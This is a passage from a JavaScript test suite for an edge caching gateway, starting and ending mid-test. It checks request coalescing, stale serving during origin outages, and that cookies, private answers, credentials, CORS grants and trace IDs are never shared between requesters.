      assert.equal(asked, cookie ? 5 : 1, `origin requests for five requests answered ${status}${cookie ? " with a cookie" : ""}`);
    }
    origin.reset();
  });

  test("a fill's 429 is handed only to the waiters from the address the fill named; one from another asks for its own", async () => {
    // An origin limiting by the client's address (the X-Forwarded-For a shared fill names): 203.0.113.7 is over its
    // limit, other addresses are not. Before, every waiter got 203.0.113.7's 429 and its Retry-After.
    origin.reset();
    const limited = "203.0.113.7";
    let asked = 0;
    let leadAsked;
    const leadArrived = new Promise((resolve) => (leadAsked = resolve));
    origin.handle(async (req, body, res) => {
      asked += 1;
      const client = req.headers["x-forwarded-for"];
      if (asked === 1) {
        leadAsked();
        await untilWaiting(worker, 5);
      }
      if (client === limited) res.writeHead(429, { "content-type": "text/plain", "retry-after": "30" }).end("slow down");
      else res.writeHead(200, { "content-type": "text/plain" }).end(`welcome ${client}`);
    });
    const path = `/gw/cached?limited-by-address=${Date.now()}`;
    const from = (ip) => worker.fetch(path, { headers: { "cf-connecting-ip": ip } });
    // The limited address leads the fill (its request reached the origin before the others were sent).
    const lead = from(limited);
    await leadArrived;
    // ::ffff:203.0.113.7 is the limited address seen through a dual-stack listener: one client to the rate limiter,
    // and now to the fill too (before, its own request named it to the origin as written, and was welcomed).
    const others = [limited, limited, `::ffff:${limited}`, "198.51.100.9", "192.0.2.44"].map(from);
    const answers = await Promise.all([lead, ...others]);
    const seen = await Promise.all(answers.map(async (r) => `${r.status} ${r.headers.get("retry-after")} ${await r.text()}`));
    assert.deepEqual(seen, [
      ...Array(4).fill("429 30 slow down"),
      "200 null welcome 198.51.100.9",
      "200 null welcome 192.0.2.44",
    ]);
    assert.equal(asked, 3, "one fill for the limited address and its waiters, one request for each other address");
    origin.reset();
  });

  test("during an origin outage 20 concurrent requests make 1 origin request: stale where allowed, else the error", async () => {
    origin.reset();
    version = 7;
    origin.handle(versioned());
    // Not /gw/sie: its 300 ms timeout ended the lead's fill before the 20 requests had all arrived on a loaded
    // machine, and a late one then led a second fill (2 origin requests, every answer still STALE).
    const path = `/gw/sie-patient?outage=${Date.now()}`;
    assert.equal((await (await worker.fetch(path)).json()).version, 7);
    // The copy's TTL is 1 s (±10%): aged past it, a request asks the origin and may serve the copy if that fails.
    await age(worker, "edge-cache", 1_200);
    const outage = (req, body, res) =>
      untilWaiting(worker, 19).then(() => {
        res.writeHead(503, { "content-type": "text/plain" });
        res.end("down for maintenance");
      });
    origin.reset();
    origin.handle(outage);
    const stale = await Promise.all(Array.from({ length: 20 }, () => worker.fetch(path)));
    const served = await Promise.all(stale.map(async (r) => `${r.status} ${r.headers.get("x-cache")} ${(await r.json()).version}`));
    assert.deepEqual(served, Array(20).fill("200 STALE 7"));
    assert.equal(origin.requests.filter((r) => r.url.includes("outage=")).length, 1, "one origin request for all 20");
    // A key with no copy: the one origin error is every waiter's answer.
    origin.reset();
    origin.handle(outage);
    const missPath = `/gw/cached?outage=${Date.now()}`;
    const errors = await Promise.all(Array.from({ length: 20 }, () => worker.fetch(missPath)));
    const answers = await Promise.all(errors.map(async (r) => `${r.status} ${await r.text()}`));
    assert.deepEqual(answers, Array(20).fill("503 down for maintenance"));
    assert.equal(origin.requests.filter((r) => r.url.includes("outage=")).length, 1, "one origin request for the misses");
    origin.reset();
  });

  test("an answer meant for one requester (Set-Cookie, private, Vary) is neither stored nor handed to concurrent requests", async () => {
    origin.reset();
    let n = 0;
    origin.handle(async (req, body, res) => {
      const mine = ++n;
      // The first answer waits until the four other requests wait on it, so they are handed its outcome (and must
      // refuse it: it is personal) rather than arriving after it and fetching on their own.
      if (mine === 1) await untilWaiting(worker, 4);
      res.writeHead(200, { "content-type": "text/plain", "set-cookie": `sid=${mine}; HttpOnly`, "cache-control": "no-cache" });
      res.end(`session ${mine}`);
    });
    const path = `/gw/cached?cookie=${Date.now()}`;
    const responses = await Promise.all(Array.from({ length: 5 }, () => worker.fetch(path)));
    const cookies = responses.map((r) => r.headers.get("set-cookie"));
    const bodies = await Promise.all(responses.map((r) => r.text()));
    assert.equal(new Set(cookies).size, 5, `each request got its own cookie: ${cookies}`);
    responses.forEach((r, i) => {
      assert.equal(bodies[i], `session ${cookies[i].match(/sid=(\d+)/)[1]}`, "body and cookie from the same origin answer");
      assert.equal(r.headers.get("x-cache"), "MISS");
      assert.equal(r.headers.get("cache-control"), "no-cache", "the origin's own caching headers, not the policy's");
      assert.equal(r.headers.get("surrogate-control"), null);
    });
    // The fill's answer says it is its visitor's: the requester that fetched it (which sent no cookie, so it is its
    // answer) takes it, the four waiting ones ask as their own (the key passed), and no one gets another's session.
    const asked = origin.requests.filter((r) => r.url.includes("cookie="));
    assert.equal(asked.length, 5, "one fill, then each waiting request its own");

    // Clear-Site-Data acts on its one visitor's browser, as Set-Cookie does: stored, every later visitor's cache or
    // storage was wiped by each HIT.
    origin.reset();
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain", "clear-site-data": '"cache", "storage"' }).end("bye"));
    const wipe = `/gw/cached?wipe=${Date.now()}`;
    for (const _ of [1, 2]) {
      const r = await worker.fetch(wipe);
      assert.equal(r.headers.get("clear-site-data"), '"cache", "storage"');
      assert.equal(r.headers.get("x-cache"), "MISS", "a Clear-Site-Data answer is not stored");
      assert.equal(await r.text(), "bye");
    }
    assert.equal(origin.requests.length, 2);

    // The last: a CORS grant echoing the fill's Origin without saying `Vary: Origin` is an answer by Origin too.
    const echo = (req) => ({ "access-control-allow-origin": req.headers.origin ?? "*", "access-control-allow-credentials": "true" });
    for (const headers of [{ "cache-control": "private, max-age=60" }, { vary: "Origin" }, echo]) {
      origin.reset();
      origin.handle((req, body, res) => {
        res.writeHead(200, { "content-type": "text/plain", ...(typeof headers === "function" ? headers(req) : headers) });
        res.end(`for ${req.headers.origin ?? "anyone"}`);
      });
      const p = `/gw/cached?personal=${Date.now()}`;
      const first = await worker.fetch(p, { headers: { origin: "https://a.example" } });
      assert.equal(await first.text(), "for https://a.example");
      const second = await worker.fetch(p, { headers: { origin: "https://b.example" } });
      assert.equal(second.headers.get("x-cache"), "MISS", JSON.stringify(headers));
      assert.equal(await second.text(), "for https://b.example", JSON.stringify(headers));
      // A private answer is its requester's (which sent nothing the fill left out) and passes the key, so the second
      // request goes straight to the origin; an answer by Origin, which the fill carried, is its requester's too.
      assert.equal(origin.requests.length, 2, JSON.stringify(headers));
    }
    origin.reset();
  });

  test("entries are kept per requesting site: a grant to one site, said by Vary or not, never reaches another site or one sending no Origin", async () => {
    origin.reset();
    // An origin granting the site that asks, without saying Vary: Origin (a common omission).
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain", ...(req.headers.origin ? { "access-control-allow-origin": req.headers.origin } : {}) });
      res.end(`for ${req.headers.origin ?? "anyone"}`);
    });
    const p = `/gw/cached?sites=${Date.now()}`;
    const steps = [
      [null, "MISS", null],
      ["https://a.example", "MISS", "https://a.example"],
      ["https://a.example", "HIT", "https://a.example"],
      ["https://b.example", "MISS", "https://b.example"],
      [null, "HIT", null],
      ["https://b.example", "HIT", "https://b.example"],
    ];
    for (const [site, cache, granted] of steps) {
      const r = await worker.fetch(p, { headers: site ? { origin: site } : {} });
      const what = `${site ?? "no Origin"} (${cache})`;
      assert.equal(r.headers.get("access-control-allow-origin"), granted, what);
      assert.equal(await r.text(), `for ${site ?? "anyone"}`, what);
      assert.equal(r.headers.get("x-cache"), cache, what);
    }
    assert.equal(origin.requests.length, 3, "one fill per site and one for none");
    origin.reset();
  });

  test("a stored 404 or 301 is kept briefly and never told immutable; a 200 is", async () => {
    origin.reset();
    let status = 404;
    origin.handle((req, body, res) => {
      res.writeHead(status, status === 301 ? { location: "/elsewhere" } : { "content-type": "text/plain" });
      res.end(status === 301 ? "" : `status ${status}`);
    });
    for (const [answer, path] of [[404, `/gw/cached?gone=${Date.now()}`], [301, `/gw/cached?moved=${Date.now()}`]]) {
      status = answer;
      for (const cache of ["MISS", "HIT"]) {
        const r = await worker.fetch(path, { redirect: "manual" });
        assert.equal(r.status, answer, `${answer} ${cache}`);
        assert.equal(r.headers.get("x-cache"), cache, `${answer}`);
        assert.equal(r.headers.get("cache-control"), "no-cache", `${answer} ${cache}: a browser asks again`);
        assert.equal(r.headers.get("surrogate-control"), "max-age=60", `${answer} ${cache}: the policy's ttl (60 s) caps it`);
        await r.arrayBuffer();
      }
    }
    // On a per-user policy it stays the user's: private for browsers, kept by no CDN in front.
    status = 301;
    const mine = await worker.fetch(`/gw/me?moved=${Date.now()}`, { headers: bearer(token(keys, "ed1")), redirect: "manual" });
    assert.equal(mine.status, 301);
    assert.equal(mine.headers.get("cache-control"), "private, no-cache");
    assert.equal(mine.headers.get("surrogate-control"), "no-store");
    await mine.arrayBuffer();
    status = 200;
    const ok = await worker.fetch(`/gw/cached?ok=${Date.now()}`);
    assert.match(ok.headers.get("cache-control"), /^public, max-age=60/, "a 200 gets the policy's own");
    await ok.arrayBuffer();
    origin.reset();
  });

  test("a cache fill carries no requester's conditionals or (on a shared policy) credentials or other headers", async () => {
    origin.reset();
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain", etag: '"v1"', "server-timing": "db;dur=53" });
      res.end("the whole representation");
    });
    const path = `/gw/cached?fill=${Date.now()}`;
    const r = await worker.fetch(path, {
      headers: { "if-none-match": '"v0"', cookie: "sid=secret", "x-user-id": "spoofed", accept: "text/plain", "accept-encoding": "zstd" },
    });
    assert.equal(r.status, 200);
    assert.match(r.headers.get("server-timing"), /^db;dur=53, origin;dur=\d+, edge;dur=\d+/, "a miss times the origin, as an uncached request does, beside the origin's own timing");
    assert.equal(await r.text(), "the whole representation");
    const sent = lastRequest().headers;
    for (const name of ["if-none-match", "cookie", "x-user-id", "authorization"]) assert.equal(sent[name], undefined, name);
    // Who the requester says it came through is not passed on to an answer everyone gets: only the address.
    const claimed = await worker.fetch(`/gw/cached?xff=${Date.now()}`, { headers: { "x-forwarded-for": "10.0.0.1", "cf-connecting-ip": "203.0.113.7" } });
    await claimed.arrayBuffer();
    assert.equal(lastRequest().headers["x-forwarded-for"], "203.0.113.7", "not 10.0.0.1, 203.0.113.7");
    assert.equal(sent.accept, "text/plain", "the representation asked for still goes");
    assert.equal(sent["accept-encoding"], "gzip, br", "the codings the runtime decodes, not the requester's");
    const hit = await worker.fetch(path);
    assert.equal(hit.headers.get("x-cache"), "HIT");
    assert.equal(await hit.text(), "the whole representation");
    assert.match(hit.headers.get("server-timing"), /^edge;dur=\d+;desc="gateway"$/, "a stored copy does not repeat the fill's timings");

    // An origin that answers by API key: the shared fill never carries one, so a keyed answer is never stored for
    // everyone — a request without the key cannot get it from the cache. The fill's 401 was made without the key:
    // the key holder is answered by a request of its own, which carries it.
    origin.reset();
    origin.handle((req, body, res) => {
      const keyed = req.headers["x-api-key"] === "k-123";
      res.writeHead(keyed ? 200 : 401, { "content-type": "text/plain" });
      res.end(keyed ? "for key holders" : "key required");
    });
    const keyedPath = `/gw/cached?keyed=${Date.now()}`;
    const withKey = await worker.fetch(keyedPath, { headers: { "x-api-key": "k-123", "x-tenant": "acme", "accept-language": "fr" } });
    assert.equal(withKey.status, 200, "answered by its own request");
    assert.equal(await withKey.text(), "for key holders");
    assert.equal(withKey.headers.get("x-cache"), "MISS");
    assert.equal(origin.requests.length, 2, "the fill, then the request's own");
    assert.equal(lastRequest().headers["x-api-key"], "k-123", "its own request carries the key");
    const forwarded = origin.requests[0].headers;
    for (const name of ["x-api-key", "x-tenant"]) assert.equal(forwarded[name], undefined, `${name} not on a shared fill`);
    assert.equal(forwarded["accept-language"], "fr", "the language goes (an answer by it says Vary, and is not stored)");
    assert.ok(forwarded["x-request-id"] && forwarded.traceparent, "the gateway's own headers go");
    const withoutKey = await worker.fetch(keyedPath);
    assert.equal(withoutKey.status, 401);
    assert.notEqual(await withoutKey.text(), "for key holders");
    assert.equal(origin.requests.length, 3, "a status alone passes no key: a fill again, whose 401 is this requester's");
    origin.reset();
  });

  test("a stored answer carries this request's ids and trace alone, never the fill's", async () => {
    origin.reset();
    // An origin that echoes the request's ids and trace back (Envoy, Spring Sleuth, OpenTelemetry's traceresponse,
    // W3C Trace Context level 2) and says what its own CDN called the request.
    origin.handle((req, body, res) => {
      const parent = req.headers.traceparent ?? "";
      const traceId = parent.split("-")[1] ?? "none";
      res.writeHead(200, {
        "content-type": "text/plain",
        "x-request-id": req.headers["x-request-id"],
        traceparent: parent,
        traceresponse: `00-${traceId}-00f067aa0ba902b7-01`,
        tracestate: `origin=${traceId}`,
        "x-trace-id": traceId,
        "x-amzn-trace-id": `Root=1-${traceId.slice(0, 8)}-${traceId.slice(8)}`,
        "cf-ray": "8f1c2d3e4a5b6c7d-LHR",
        "server-timing": `db;dur=12, traceparent;desc="${parent}"`,
      });
      res.end(`made for ${traceId}`);
    });
    const path = `/gw/cached?ids=${Date.now()}`;
    const fillTrace = "4bf92f3577b34da6a3ce929d0e0e4736";
    const fill = await worker.fetch(path, { headers: { "x-request-id": "fill-request-1", traceparent: `00-${fillTrace}-00f067aa0ba902b7-01` } });
    assert.equal(await fill.text(), `made for ${fillTrace}`);
    assert.equal(fill.headers.get("x-cache"), "MISS");
    const hitTrace = "0af7651916cd43dd8448eb211c80319c";
    const hit = await worker.fetch(path, { headers: { "x-request-id": "hit-request-2", traceparent: `00-${hitTrace}-b7ad6b7169203331-01` } });
    assert.equal(hit.headers.get("x-cache"), "HIT");
    await hit.arrayBuffer();
    assert.equal(hit.headers.get("x-request-id"), "hit-request-2");
    assert.equal(hit.headers.get("x-trace-id"), hitTrace);
    assert.match(hit.headers.get("traceparent"), new RegExp(`^00-${hitTrace}-`));
    for (const [name, value] of hit.headers) {
      assert.ok(!value.includes(fillTrace), `${name}: ${value} names the fill's trace`);
      assert.ok(!value.includes(fillTrace.slice(8)), `${name}: ${value} names the fill's trace`);
      assert.ok(!value.includes("fill-request-1"), `${name}: ${value} names the fill's request`);
    }
    for (const name of ["tracestate", "traceresponse", "x-amzn-trace-id", "cf-ray"]) {
      assert.equal(hit.headers.get(name), null, `${name} was the fill's`);
    }
    assert.match(hit.headers.get("server-timing"), /^edge;dur=\d+;desc="gateway"$/, "its own timing alone");

    // A request that joins a fill under way is handed its answer: not the fill's ids and trace either. (The fill's
    // answer waits until the other request waits on it.)
    const joinedPath = `/gw/cached?ids-joined=${Date.now()}`;
    origin.handle(async (req, body, res) => {
      await untilWaiting(worker, 1);
      const parent = req.headers.traceparent ?? "";
      res.writeHead(200, { "content-type": "text/plain", traceresponse: parent, tracestate: `origin=${parent.split("-")[1]}`, "x-request-id": req.headers["x-request-id"], "server-timing": `db;dur=12, trace;desc="${parent}"` });
      res.end("shared");
    });
    const leadTrace = "11111111111111111111111111111111";
    const lead = worker.fetch(joinedPath, { headers: { "x-request-id": "lead-request", traceparent: `00-${leadTrace}-00f067aa0ba902b7-01` } });
    await until(() => origin.requests.some((r) => r.url.includes("ids-joined=")));
    const joinedTrace = "22222222222222222222222222222222";
    const joined = await worker.fetch(joinedPath, { headers: { "x-request-id": "joined-request", traceparent: `00-${joinedTrace}-00f067aa0ba902b7-01` } });
    const led = await lead;
    assert.equal(await joined.text(), "shared");
    assert.equal(await led.text(), "shared");
    assert.equal(joined.headers.get("x-cache"), "MISS");
    assert.equal(origin.requests.filter((r) => r.url.includes("ids-joined=")).length, 1, "one fill for both");
    for (const [name, value] of joined.headers) {
      assert.ok(!value.includes(leadTrace.slice(8)) && !value.includes("lead-request"), `${name}: ${value} was the lead's`);
    }
    assert.equal(joined.headers.get("x-request-id"), "joined-request");
    assert.match(led.headers.get("traceresponse") ?? "", new RegExp(leadTrace), "the lead's own exchange keeps what its origin said");
    origin.reset();
  });

  test("the fill's ids from any vendor are kept off a STALE answer, a 304, a HEAD and a waiter's 5xx; an uncached route passes them on", async () => {
    origin.reset();
    // What object stores, CDNs and tracers in front of an origin say of one exchange: S3's and CloudFront's request
    // ids, Azure's, API Gateway's, Datadog's trace, Vercel's, Netlify's and Fly's ids, Fastly's and Envoy's timing.
    const vendor = (id) => ({
      "x-amz-request-id": `S3${id}`,
      "x-amz-id-2": `ext${id}`,
      "x-amz-cf-id": `cf${id}`,
      "x-amzn-requestid": `apigw${id}`,
      "x-ms-request-id": `ms${id}`,
      "x-datadog-trace-id": `dd${id}`,
      "x-vercel-id": `vc${id}`,
      "x-nf-request-id": `nf${id}`,
      "fly-request-id": `fly${id}`,
      "x-timer": `S1764700000.${id},VS0,VE12`,
      "x-envoy-upstream-service-time": "12",
    });
    const names = Object.keys(vendor("x"));
    let n = 0;
    origin.handle((req, body, res) => {
      const id = `${++n}-${req.headers["x-request-id"]}`;
      res.writeHead(200, { "content-type": "text/plain", etag: '"one"', ...vendor(id) });
      res.end("one");
    });
    // Uncached: the request's own exchange, passed on as the origin said it.
    const open = await worker.fetch(`/gw/open/ids?${Date.now()}`, { headers: { "x-request-id": "open-1" } });
    await open.arrayBuffer();
    for (const name of names) assert.equal(open.headers.get(name), vendor(`1-open-1`)[name], `${name} passed on`);

    const none = (response, what) => {
      for (const name of names) assert.equal(response.headers.get(name), null, `${what}: ${name} was the fill's`);
      for (const [name, value] of response.headers) assert.ok(!value.includes("fill-1"), `${what}: ${name}: ${value}`);
    };
    const path = `/gw/cached?vendor=${Date.now()}`;
    const fill = await worker.fetch(path, { headers: { "x-request-id": "fill-1" } });
    assert.equal(await fill.text(), "one");
    assert.equal(fill.headers.get("x-cache"), "MISS");
    assert.match(fill.headers.get("x-amz-request-id") ?? "", /fill-1/, "the fill's own exchange keeps them");
    const hit = await worker.fetch(path, { headers: { "x-request-id": "hit-2" } });
    assert.equal(hit.headers.get("x-cache"), "HIT");
    await hit.arrayBuffer();
    none(hit, "HIT");
    const revalidated = await worker.fetch(path, { headers: { "x-request-id": "hit-3", "if-none-match": '"one"' } });
    assert.equal(revalidated.status, 304);
    await revalidated.arrayBuffer();
    assert.equal(revalidated.headers.get("x-request-id"), "hit-3");
    none(revalidated, "304");
    const head = await worker.fetch(path, { method: "HEAD", headers: { "x-request-id": "hit-4" } });
    assert.equal(head.headers.get("x-cache"), "HIT");
    assert.equal(head.headers.get("x-request-id"), "hit-4");
    none(head, "HEAD");

    // STALE (stale-while-revalidate): the stored copy, then its refresh's answer stored — neither the first fill's.
    const swr = `/gw/swr?vendor=${Date.now()}`;
    assert.equal(await (await worker.fetch(swr, { headers: { "x-request-id": "fill-1" } })).text(), "one");
    const stale = await until(async () => {
      const r = await worker.fetch(swr, { headers: { "x-request-id": "stale-5" } });
      await r.arrayBuffer();
      return r.headers.get("x-cache") === "STALE" && r;
    }, { what: "a STALE answer" });
    assert.equal(stale.headers.get("x-request-id"), "stale-5");
    assert.match(stale.headers.get("server-timing") ?? "", /^edge;dur=\d+;desc="gateway"$/);
    none(stale, "STALE");
    // The background refresh it started (carrying stale-5's id) stores no ids of its own either.
    const refreshed = await until(async () => {
      const r = await worker.fetch(swr, { headers: { "x-request-id": "hit-8" } });
      await r.arrayBuffer();
      return r.headers.get("x-cache") === "HIT" && r;
    }, { what: "the refreshed copy" });
    none(refreshed, "the refreshed copy");
    for (const [name, value] of refreshed.headers) assert.ok(!value.includes("stale-5"), `refreshed: ${name}: ${value}`);

    // An origin error handed to a request that joined the fill (shared: a 5xx is).
    const failing = `/gw/cached?vendor-5xx=${Date.now()}`;
    origin.handle(async (req, body, res) => {
      await untilWaiting(worker, 1);
      res.writeHead(503, { "content-type": "text/plain", ...vendor(`fill-1-${req.headers["x-request-id"]}`) });
      res.end("down");
    });
    const lead = worker.fetch(failing, { headers: { "x-request-id": "lead-6" } });
    await until(() => origin.requests.some((r) => r.url.includes("vendor-5xx=")));
    const joined = await worker.fetch(failing, { headers: { "x-request-id": "joined-7" } });
    const led = await lead;
    assert.equal(joined.status, 503);
    assert.equal(await joined.text(), "down");
    await led.arrayBuffer();
    assert.equal(origin.requests.filter((r) => r.url.includes("vendor-5xx=")).length, 1, "one fill for both");
    assert.equal(joined.headers.get("x-request-id"), "joined-7");
    none(joined, "a waiter's 5xx");
    assert.match(led.headers.get("x-ms-request-id") ?? "", /lead-6/, "the lead's own 5xx keeps them");
    origin.reset();
  });

  test("an answer whose status comes from the fill's own headers does not turn the cache off for the key", async () => {
    origin.reset();
    // A CORS filter answering 403 to an origin it does not know (Spring's), a bot filter to an odd User-Agent.
    origin.handle((req, body, res) => {
      if (req.headers.origin === "https://evil.example") return res.writeHead(403, { "content-type": "text/plain" }).end("forbidden");
      res.writeHead(200, { "content-type": "text/plain" }).end("public");
    });
    const path = `/gw/cached?status-only=${Date.now()}`;
    const evil = await worker.fetch(path, { headers: { origin: "https://evil.example" } });
    assert.equal(evil.status, 403);
    await evil.arrayBuffer();
    const states = [];
    for (let i = 0; i < 5; i++) {
      const r = await worker.fetch(path);
      assert.equal(await r.text(), "public");
      states.push(r.headers.get("x-cache"));
    }
    assert.deepEqual(states, ["MISS", "HIT", "HIT", "HIT", "HIT"]);
    assert.equal(origin.requests.length, 2);
    origin.reset();
  });

  test("an origin that starts a session for a fill without cookies does not replace the requester's", async () => {
    origin.reset();
    origin.handle((req, body, res) => {
      // PHP's session_start, express-session, Laravel: a request without the session cookie is given a new one.
      const sid = /sid=(\w+)/.exec(req.headers.cookie ?? "")?.[1];
      res.writeHead(200, { "content-type": "text/html", ...(sid ? {} : { "set-cookie": "sid=NEW; Path=/; HttpOnly" }) });
      res.end(sid ? `hello ${sid}` : "hello stranger");
    });
    const path = `/gw/html/home?session=${Date.now()}`;
    const alice = await worker.fetch(path, { headers: { cookie: "sid=alice" } });
    assert.equal(alice.headers.get("set-cookie"), null, "the client's session stays");
    assert.equal(await alice.text(), "hello alice");
    assert.equal(origin.requests.length, 2, "the fill, then alice's own request");
    const bob = await worker.fetch(path, { headers: { cookie: "sid=bob" } });
    assert.equal(await bob.text(), "hello bob");
    assert.equal(bob.headers.get("x-cache"), "MISS");
    assert.equal(origin.requests.length, 3, "the key passed: bob's request goes as his own");
    const visitor = await worker.fetch(path);
    assert.equal(await visitor.text(), "hello stranger");
    assert.equal(visitor.headers.get("set-cookie"), "sid=NEW; Path=/; HttpOnly", "a visitor without one is given its session");
    origin.reset();
  });

  test("a Range request asks the origin for a range of the uncoded body, which reaches a client that accepts no gzip whole", async () => {
    // An origin that codes by Accept-Encoding and serves ranges of the coded bytes (Go's ServeContent of a
    // precompressed file, an object store keeping gzip objects): told the runtime's own `br, gzip`, it sent a gzip
    // fragment, which no decoder reads — the runtime, decoding it for a client that accepts no gzip, sent an empty
    // 206 whose Content-Range promised ten bytes.
    const { gzipSync } = await import("node:zlib");
    const text = Buffer.from("0123456789".repeat(100));
    origin.reset();
    origin.handle((req, body, res) => {
      const coded = /gzip/.test(req.headers["accept-encoding"] ?? "");
      const whole = coded ? gzipSync(text) : text;
      const m = /bytes=(\d+)-(\d+)/.exec(req.headers.range ?? "");
      const headers = { "content-type": "text/plain", "accept-ranges": "bytes", ...(coded ? { "content-encoding": "gzip" } : {}) };
      if (!m) return res.writeHead(200, headers).end(whole);
      res.writeHead(206, { ...headers, "content-range": `bytes ${m[1]}-${m[2]}/${whole.length}` });
      res.end(whole.subarray(+m[1], +m[2] + 1));
    });
    for (const path of ["/gw/open/book.txt", `/gw/static/book.txt?range=${Date.now()}`]) {
      const part = await rawRequest(path, { headers: { range: "bytes=5-14", "accept-encoding": "identity" } });
      assert.equal(part.status, 206, path);
      assert.equal(part.body, "5678901234", `${path}: the ten bytes the Content-Range names`);
      assert.equal(part.headers.get("content-range"), "bytes 5-14/1000", path);
      assert.equal(origin.requests.at(-1).headers["accept-encoding"], "identity", `${path}: the origin is asked for the uncoded body's range`);
    }
    // Requests without a Range are asked as before: the origin may code them, and the client gets them whole.
    const whole = await rawRequest("/gw/open/book.txt", { headers: { "accept-encoding": "identity" } });
    assert.equal(origin.requests.at(-1).headers["accept-encoding"], "br, gzip");
    assert.equal(whole.body, text.toString());
    origin.reset();
  });

  test("Range requests reach the origin; conditional requests are answered 304 from the edge cache", async () => {
    origin.reset();
    const clip = Buffer.alloc(1000, "v");
    origin.handle((req, body, res) => {
      const m = /bytes=(\d+)-(\d+)/.exec(req.headers.range ?? "");
      const headers = { "content-type": "video/mp4", "accept-ranges": "bytes", etag: '"clip-1"', "last-modified": "Tue, 01 Dec 2026 04:00:00 GMT" };
      if (m) {
        res.writeHead(206, { ...headers, "content-range": `bytes ${m[1]}-${m[2]}/1000` });
        return res.end(clip.subarray(+m[1], +m[2] + 1));
      }
      res.writeHead(200, headers);
      res.end(clip);
    });
    const path = `/gw/static/clip.mp4?range=${Date.now()}`;
    const part = await worker.fetch(path, { headers: { range: "bytes=0-1" } });
    assert.equal(part.status, 206, "Safari's probe gets its 206");
    assert.equal((await part.arrayBuffer()).byteLength, 2);
    assert.equal(origin.requests.at(-1).headers.range, "bytes=0-1");

    const fresh = await worker.fetch(path, { headers: { "if-none-match": '"clip-1"' } });
    assert.equal(fresh.status, 304, "a fill's answer meets the client's validator");
    assert.equal(await fresh.text(), "");
    const hit = await worker.fetch(path, { headers: { "if-none-match": 'W/"clip-0", "clip-1"' } });
    assert.equal(hit.status, 304);
    assert.equal(hit.headers.get("x-cache"), "HIT");
    assert.equal(hit.headers.get("etag"), '"clip-1"');
    assert.equal(await hit.text(), "");
    const since = await worker.fetch(path, { headers: { "if-modified-since": "Tue, 01 Dec 2026 04:00:00 GMT" } });
    assert.equal(since.status, 304);
    await since.arrayBuffer();
    const changed = await worker.fetch(path, { headers: { "if-none-match": '"clip-2"' } });
    assert.equal(changed.status, 200);
    assert.equal((await changed.arrayBuffer()).byteLength, 1000);
    assert.equal(origin.requests.length, 2, "one range request, one fill");
    // A range of a key already stored goes to the origin too, and its 206 neither replaces nor removes the copy.
    const later = await worker.fetch(path, { headers: { range: "bytes=10-19" } });
    assert.equal(later.status, 206);
    assert.equal(later.headers.get("content-range"), "bytes 10-19/1000");
    assert.equal((await later.arrayBuffer()).byteLength, 10);
    assert.equal(origin.requests.length, 3);
    assert.equal(origin.requests.at(-1).headers.range, "bytes=10-19");
    const whole = await worker.fetch(path);
    assert.equal(whole.status, 200);
    assert.equal(whole.headers.get("x-cache"), "HIT");
    assert.equal((await whole.arrayBuffer()).byteLength, 1000);
    assert.equal(origin.requests.length, 3, "the stored copy served");
    origin.reset();
  });

  test("a client's no-cache (a browser's reload) is served from the cache, as documented", async () => {
    origin.reset();
    let n = 0;
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain" }).end(`copy ${++n}`));
    const path = `/gw/cached?reload=${Date.now()}`;
    assert.equal(await (await worker.fetch(path)).text(), "copy 1");
    for (const headers of [{ "cache-control": "no-cache", pragma: "no-cache" }, { "cache-control": "max-age=0" }]) {
      const again = await worker.fetch(path, { headers });
      assert.equal(again.headers.get("x-cache"), "HIT");
      assert.equal(await again.text(), "copy 1");
    }
    assert.equal(n, 1, "one origin request");
    origin.reset();
  });

  test("a request saying Cache-Control: no-store is served from a stored copy, but what its miss fetches is not stored (RFC 9111 §5.2.1.5)", async () => {
    origin.reset();
    let n = 0;
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain" }).end(`copy ${++n}`));
    const path = `/gw/cached?nostore=${Date.now()}`;
    const first = await worker.fetch(path, { headers: { "cache-control": "no-store" } });
    assert.equal(first.headers.get("x-cache"), "MISS");
    assert.equal(await first.text(), "copy 1");
    const second = await worker.fetch(path);
    assert.equal(second.headers.get("x-cache"), "MISS", "the no-store request's answer was not kept");
    assert.equal(await second.text(), "copy 2");
    await until(async () => {
      const r = await worker.fetch(path, { headers: { "cache-control": "no-store, max-age=0" } });
      const text = await r.text();
      return r.headers.get("x-cache") === "HIT" && text === "copy 2";
    }, { what: "a stored copy served to a no-store request" });
    assert.equal(n, 2);
    origin.reset();
  });

  test("a no-store request leads no fill: ordinary misses arriving while it is at the origin fill and store their own", async () => {
    origin.reset();
    // The no-store request's origin request is held until the ordinary ones are answered or wait on it.
    const { count, release } = copiesFirstHeld();
    const path = `/gw/cached?nostore-lead=${Date.now()}`;
    const noStore = worker.fetch(path, { headers: { "cache-control": "no-store" } });
    await until(() => count() === 1, { what: "the no-store request at the origin" });
    let settled = false;
    const ordinary = Promise.all(Array.from({ length: 3 }, () => worker.fetch(path))).finally(() => (settled = true));
    // Before the fix the three joined the no-store request's fill (and waited on it); now one of them leads a fill.
    await until(async () => settled || (await (await worker.fetch("/__debug/coalesce")).json()).waiting >= 3, {
      what: "the ordinary requests answered, or waiting on the no-store request's fill",
    });
    release();
    const answers = await Promise.all((await ordinary).map(async (r) => `${r.headers.get("x-cache")} ${await r.text()}`));
    assert.equal(await (await noStore).text(), "copy 1");
    assert.ok(answers.every((a) => a.endsWith(" copy 2")), `their own fill's answer, not the no-store one's: ${answers}`);
    // That fill was stored: the next requests are HITs of it, with no further origin request.
    await until(async () => {
      const r = await worker.fetch(path);
      return r.headers.get("x-cache") === "HIT" && (await r.text()) === "copy 2";
    }, { what: "a HIT of the ordinary fill" });
    assert.equal(count(), 2);
    origin.reset();
  });

  test("no-store requests for a key nothing is stored under share one origin request, and what it fetched is not stored", async () => {
    // A no-store request leads no fill ordinary requests join (its answer is stored nowhere), but no-store requests
    // arriving together still share one: else a client saying no-store sent every request for a missing or expired
    // key to the origin (each in an outage too, where a fill keeps it at one origin request per key).
    origin.reset();
    const { count, release } = copiesFirstHeld();
    const path = `/gw/cached?nostore-together=${Date.now()}`;
    const noStore = () => worker.fetch(path, { headers: { "cache-control": "no-store" } });
    const first = noStore();
    await until(() => count() === 1, { what: "the first no-store request at the origin" });
    const others = [noStore(), noStore()];
    await until(async () => count() >= 3 || (await (await worker.fetch("/__debug/coalesce")).json()).waiting >= 2, {
